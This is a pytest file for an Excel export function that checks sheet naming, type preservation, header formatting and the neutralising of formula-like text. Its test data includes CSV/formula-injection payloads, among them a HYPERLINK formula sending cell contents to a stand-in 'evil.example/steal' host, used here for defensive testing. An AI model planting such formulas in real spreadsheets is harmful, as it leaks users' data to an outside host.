"""The Excel workbook: a sheet per table, formula-like text neutralised, numbers and dates kept as such."""

import datetime as dt

import duckdb
import openpyxl
import pytest

from mel_pipeline.excel_export import export_workbook

HOSTILE = ['=HYPERLINK("http://evil.example/steal?x="&A1,"click me")', "+1", "-2", "@SUM(A1)", "\tcmd", "\rcmd"]
LONG_NAME = "rejected_rows_with_a_name_longer_than_excel_allows"


@pytest.fixture
def workbook(tmp_path):
    """The workbook of a small marts file: `notes` with hostile text, numbers and dates, and a long-named table."""
    marts = tmp_path / "mel.duckdb"
    connection = duckdb.connect(str(marts))
    connection.execute("CREATE TABLE notes (id BIGINT, note VARCHAR, amount DOUBLE, day DATE, stamp TIMESTAMP, "
                       "flag BOOLEAN, tags VARCHAR[])")
    rows = [[index, text, -2.5 * index, dt.date(2024, 1, index), dt.datetime(2024, 1, index, 13, 30), index % 2 == 0,
             ["sex", "state"]] for index, text in enumerate([*HOSTILE, "plain text", "3-4 workers", None], start=1)]
    connection.executemany("INSERT INTO notes VALUES (?, ?, ?, ?, ?, ?, ?)", rows)
    connection.execute(f"CREATE TABLE {LONG_NAME} AS SELECT 1 AS n")
    connection.close()
    out = tmp_path / "out" / "mel_marts.xlsx"
    assert export_workbook(marts, out) == out
    return out


def column(sheet, name: str) -> list:
    header = [cell.value for cell in sheet[1]]
    return [row[header.index(name)] for row in sheet.iter_rows(min_row=2)]


def test_one_sheet_per_table_with_names_excel_accepts(workbook):
    book = openpyxl.load_workbook(workbook)
    assert book.sheetnames == ["notes", LONG_NAME[:31]]
    assert [path.name for path in workbook.parent.iterdir()] == ["mel_marts.xlsx"]


def test_formula_like_text_comes_back_as_quoted_text(workbook):
    notes = column(openpyxl.load_workbook(workbook)["notes"], "note")
    for cell, text in zip(notes, HOSTILE):
        assert cell.data_type == "s"
        assert cell.value == "'" + text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    assert [cell.value for cell in notes[len(HOSTILE):]] == ["plain text", "3-4 workers", None]


def test_numbers_dates_and_lists_keep_their_kind(workbook):
    sheet = openpyxl.load_workbook(workbook)["notes"]
    ids, amounts = column(sheet, "id"), column(sheet, "amount")
    assert [cell.value for cell in ids] == list(range(1, 10)) and {cell.data_type for cell in ids} == {"n"}
    assert amounts[1].value == -5.0 and amounts[1].data_type == "n"
    day, stamp = column(sheet, "day")[0], column(sheet, "stamp")[0]
    assert day.is_date and day.value == dt.datetime(2024, 1, 1) and day.number_format == "yyyy-mm-dd"
    assert stamp.is_date and stamp.value == dt.datetime(2024, 1, 1, 13, 30)
    assert column(sheet, "flag")[1].value is True
    assert column(sheet, "tags")[0].value == "sex, state"


def test_header_is_bold_frozen_and_filtered(workbook):
    sheet = openpyxl.load_workbook(workbook)["notes"]
    assert [cell.value for cell in sheet[1]] == ["id", "note", "amount", "day", "stamp", "flag", "tags"]
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G10"
    assert 8 <= sheet.column_dimensions["B"].width <= 60


def test_a_second_export_replaces_the_first(workbook):
    marts = workbook.parent.parent / "mel.duckdb"
    with duckdb.connect(str(marts)) as connection:
        connection.execute("DELETE FROM notes WHERE id > 1")
    export_workbook(marts, workbook)
    assert openpyxl.load_workbook(workbook)["notes"].max_row == 2
